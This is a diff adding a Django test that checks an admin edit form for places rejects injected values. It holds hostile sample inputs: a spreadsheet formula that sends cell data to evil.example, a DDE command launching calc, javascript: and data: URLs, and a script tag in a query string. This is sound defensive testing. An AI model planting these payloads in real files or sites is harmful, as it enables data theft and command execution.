@@ -125,3 +125,29 @@ def test_editors_can_view_but_not_change(client, django_user_model, places):
 @pytest.mark.parametrize("query", ["?service=Jardinage", "?departement=%3Cscript%3E", "?stale=peut-etre", "?p=9999"])
 def test_invalid_filters_never_fail(moderator_client, places, query):
     assert moderator_client.get(LISTING + query).status_code in (200, 404)
+
+
+def test_a_hand_edit_cannot_store_a_spreadsheet_formula_or_a_script_address(moderator_client, places):
+    place = places["lieu-1"]
+    url = f"/admin/lieux/edit/{place.pk}/"
+    changes = {
+        "nom": '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
+        "source": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "presentation_detail": "\t=1+1",
+        "site_web": "https://www.exemple.fr/|javascript:alert(1)",
+        "prise_rdv": "javascript:alert(1)",
+        "fiche_acces_libre": "data:text/html,x",
+    }
+    response = moderator_client.post(url, _form_data(place, **changes))
+    assert response.status_code == 200
+    errors = response.context["form"].errors
+    assert set(errors) == set(changes)
+    assert "formule" in str(errors["nom"]) and "http:// ou https://" in str(errors["prise_rdv"])
+    place.refresh_from_db()
+    assert place.nom == "Médiathèque José Cabanis" and place.prise_rdv.startswith("https://")
+    response = moderator_client.post(
+        url, _form_data(place, telephone="+33561000000", longitude="-1.44367", latitude="43.6")
+    )
+    assert response.status_code == 302
+    place.refresh_from_db()
+    assert (place.telephone, place.longitude) == ("+33561000000", -1.44367)
